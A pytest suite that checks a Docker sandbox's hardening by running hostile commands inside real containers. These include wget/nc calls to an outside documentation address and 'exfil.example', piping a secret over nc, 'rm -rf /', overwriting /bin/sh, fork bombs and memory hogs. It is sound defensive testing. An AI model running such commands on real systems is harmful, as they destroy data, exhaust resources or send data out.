"""Each hardening property of the docker sandbox, proved by trying to break it.

Every test runs hostile commands in a real container and checks two things: the
attempt failed (or was contained and reported), and the sandbox is still usable
afterwards. Outside addresses are from TEST-NET-3 (203.0.113.0/24, documentation
only): even a broken firewall would send nothing to a real host.
"""

from __future__ import annotations

import os
import socket
import threading
from collections.abc import Iterator
from typing import Any

import pytest

from mosaic_gym.sandbox.base import HOME, FileSpec
from mosaic_gym.sandbox.docker.pool import WORK_ROOTS, SandboxLimits
from mosaic_gym.sandbox.docker.sandbox import DockerSandbox

pytestmark = pytest.mark.docker

OUTSIDE = "203.0.113.7"
WORLD = [FileSpec(f"{HOME}/notes.txt", b"keep me\n"), FileSpec("/srv/app/config", b"x=1\n")]


@pytest.fixture
def box(docker_pool: Any) -> Iterator[DockerSandbox]:
    sandbox = DockerSandbox(pool=docker_pool)
    sandbox.setup(WORLD)
    yield sandbox
    sandbox.close()


def assert_usable(box: DockerSandbox) -> None:
    result = box.exec("cat notes.txt && echo ok")
    assert (result.exit_code, result.stdout) == (0, "keep me\nok\n"), result


# -- network -------------------------------------------------------------
def test_no_route_outside(box: DockerSandbox) -> None:
    for command in (f"wget -q -O - http://{OUTSIDE}/", f"nc -w 3 {OUTSIDE} 80 </dev/null"):
        result = box.exec(command, timeout=15)
        assert result.exit_code != 0 and not result.timed_out, result
        assert "unreachable" in result.stderr.lower(), result
    assert_usable(box)


def test_no_name_resolution(box: DockerSandbox) -> None:
    result = box.exec("wget -q -O - http://exfil.example/x", timeout=15)
    assert result.exit_code != 0 and "bad address" in result.stderr, result
    assert box.exec("nslookup exfil.example", timeout=15).exit_code != 0


def test_host_services_are_unreachable(box: DockerSandbox, docker_pool: Any) -> None:
    """A service listening on every host address (like a dev server) cannot be reached."""
    listener = socket.create_server(("0.0.0.0", 0))
    listener.settimeout(0.1)
    port = listener.getsockname()[1]
    try:
        targets = ["172.17.0.1"]  # docker0, and the egress bridge when there is one
        if docker_pool.egress is not None:
            targets.append(docker_pool.egress.gateway)
        for host in targets:
            result = box.exec(f"nc -w 3 {host} {port} </dev/null", timeout=15)
            assert result.exit_code != 0, (host, result)
        with pytest.raises(TimeoutError):
            listener.accept()
    finally:
        listener.close()


def test_sandboxes_cannot_reach_each_other(docker_pool: Any) -> None:
    with DockerSandbox(pool=docker_pool) as server, DockerSandbox(pool=docker_pool) as client:
        heard: list[Any] = []
        listening = threading.Thread(
            target=lambda: heard.append(server.exec("nc -l -p 8080", timeout=6))
        )
        listening.start()
        try:
            result = client.exec(f"echo secret | nc -w 3 {server.address} 8080", timeout=15)
        finally:
            listening.join()
        assert result.exit_code != 0, result
        assert "secret" not in heard[0].stdout


# -- privileges ----------------------------------------------------------
def test_all_capabilities_dropped(box: DockerSandbox) -> None:
    status = box.exec("cat /proc/self/status").stdout
    fields = dict(line.split(":\t", 1) for line in status.splitlines() if ":\t" in line)
    for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
        assert int(fields[name], 16) == 0, (name, fields[name])


def test_no_new_privileges(box: DockerSandbox) -> None:
    status = box.exec("grep -E '^(NoNewPrivs|Seccomp):' /proc/self/status").stdout
    assert "NoNewPrivs:\t1" in status
    assert "Seccomp:\t2" in status  # the engine's seccomp filter is on too


def test_non_root_user_and_no_root_process(box: DockerSandbox) -> None:
    assert box.exec("id -u; id -g").stdout == "1000\n1000\n"
    users = box.exec("ps -o user=").stdout.split()
    assert "root" not in users and set(users) <= {"user", "nobody"}, users


def test_no_way_to_become_root(box: DockerSandbox) -> None:
    assert box.exec("su -c id root </dev/null").exit_code != 0
    assert box.exec("find / -xdev -perm -4000 -type f 2>/dev/null").stdout == ""


# -- file system -----------------------------------------------------------
def test_read_only_root(box: DockerSandbox) -> None:
    before = box.exec("sha256sum /bin/busybox").stdout
    for command in ("touch /usr/x", "mkdir /x", "cp /bin/busybox /bin/evil",
                    "echo pwned > /bin/sh", "rm -f /bin/busybox"):  # fmt: skip
        result = box.exec(command)
        assert result.exit_code != 0, (command, result)
    assert "Read-only file system" in box.exec("touch /usr/x").stderr
    assert box.exec("mount | grep ' on / '").stdout.split("(")[1].startswith("ro,")
    assert box.exec("sha256sum /bin/busybox").stdout == before


def test_only_work_roots_are_writable(box: DockerSandbox) -> None:
    """Try to create a file in every directory outside /proc and /sys."""
    probe = (
        "for d in $(find / -path /proc -prune -o -path /sys -prune -o -type d -print); do "
        'if touch "$d/.probe" 2>/dev/null; then echo "$d"; rm -f "$d/.probe"; fi; done'
    )
    writable = box.exec(probe, timeout=60).stdout.split()
    outside = [d for d in writable if not any(d == r or d.startswith(r + "/") for r in WORK_ROOTS)]
    assert outside == []
    assert set(WORK_ROOTS) <= set(writable)
    for path in ("/usr/x", "/dev/shm/x", "/dev/mqueue/x", "/x"):
        with pytest.raises(PermissionError):
            box.write_file(path, b"x")


def test_rm_rf_root_is_contained(box: DockerSandbox) -> None:
    result = box.exec("rm -rf / 2>/dev/null; echo survived", timeout=60)
    assert result.stdout.endswith("survived\n")
    assert box.exec("ls /bin/sh && busybox true").exit_code == 0  # the image is intact
    assert not box.exists(f"{HOME}/notes.txt")  # what the user owned is gone...
    box.reset()  # ...until the world is laid down again
    assert_usable(box)


def test_disk_is_bounded(docker_pool: Any) -> None:
    with DockerSandbox(pool=docker_pool) as box:
        result = box.exec("dd if=/dev/zero of=big bs=1M count=1024", timeout=60)
        assert result.exit_code != 0 and "No space left on device" in result.stderr
        assert box.exec("echo fine").stdout == "fine\n"


# -- limits --------------------------------------------------------------
@pytest.mark.parametrize(
    "bomb",
    [
        ":(){ :|:& };:",  # the classic; busybox sh refuses ":" as a function name
        "bomb(){ bomb|bomb& };bomb",  # the same bomb under a name busybox accepts
        "bomb(){ bomb|bomb& };bomb; sleep 100",  # and one that outlives its timeout
    ],
)
def test_fork_bomb_is_contained(box: DockerSandbox, bomb: str) -> None:
    limit = box.exec("cat /sys/fs/cgroup/pids/pids.max").stdout.strip()
    assert limit == str(SandboxLimits().pids)
    result = box.exec(bomb, timeout=5)
    assert result.exit_code != 0 or "fork" in result.stderr.lower() or result.stderr == "", result
    assert_usable(box)
    assert "bomb" not in box.exec("ps -o args=").stdout
    pid = os.fork()  # the host still forks
    if pid == 0:
        os._exit(0)
    assert os.waitpid(pid, 0)[1] == 0


@pytest.mark.slow
def test_escaped_endless_fork_loop_is_stopped(box: DockerSandbox) -> None:
    """A forking loop that leaves the command's process group and never dies on its own."""
    bomb = "setsid sh -c 'while :; do (while :; do :; done) & done'; sleep 100"
    result = box.exec(bomb, timeout=3)
    assert result.timed_out and result.exit_code == 124
    assert_usable(box)
    assert box.exec("ps -o args= | grep -c '[w]hile :'").stdout.strip() == "0"


def test_memory_limit(box: DockerSandbox) -> None:
    limit = int(box.exec("cat /sys/fs/cgroup/memory/memory.limit_in_bytes").stdout)
    assert limit == 512 * 1024 * 1024
    hog = 'awk \'BEGIN { s = sprintf("%900000000s", ""); print length(s) }\''
    result = box.exec(hog, timeout=60)
    assert result.exit_code != 0 and "900000000" not in result.stdout, result
    assert_usable(box)


def test_cpu_limit(box: DockerSandbox) -> None:
    """Two busy loops for 2 s get about one CPU's worth of time, not two."""
    usage = "cat /sys/fs/cgroup/cpuacct/cpuacct.usage"
    script = (
        f"a=$({usage}); (while :; do :; done) & (while :; do :; done) & "
        f"sleep 2; b=$({usage}); echo $((b - a))"
    )
    used_ns = int(box.exec(script, timeout=20).stdout.strip())
    assert used_ns < 2 * 1.3e9, used_ns  # two unlimited loops would use ~4e9 on 2 cores


def test_per_command_timeout(box: DockerSandbox) -> None:
    result = box.exec("echo started; sleep 10000", timeout=1)
    assert result.timed_out and result.exit_code == 124
    assert result.stdout == "started\n"
    assert "sleep 10000" not in box.exec("ps -o args=").stdout
    assert_usable(box)


def test_output_cap_on_a_gigabyte(box: DockerSandbox) -> None:
    result = box.exec("yes | head -c 1000000000; echo done >&2", timeout=60, output_cap=65536)
    assert result.truncated and not result.timed_out and result.exit_code == 0
    assert len(result.stdout.encode()) <= 65536 and result.stdout.startswith("y\ny\n")
    assert result.stderr == "done\n"
    assert_usable(box)


def test_endless_output_is_capped_and_stopped(box: DockerSandbox) -> None:
    result = box.exec("cat /dev/zero", timeout=2, output_cap=1000)
    assert result.timed_out and result.truncated and len(result.stdout) <= 1000
    assert_usable(box)


def test_nothing_outlives_a_command(box: DockerSandbox) -> None:
    box.exec("sleep 1000 & setsid sleep 2000 & nohup sleep 3000 >/dev/null 2>&1 &")
    assert not {"sleep 1000", "sleep 2000", "sleep 3000"} & set(
        box.exec("ps -o args=").stdout.splitlines()
    )


def test_killing_the_shell_is_survivable(box: DockerSandbox) -> None:
    result = box.exec("kill -9 -1; echo unreachable")
    assert result.exit_code != 0 and "unreachable" not in result.stdout
    assert_usable(box)
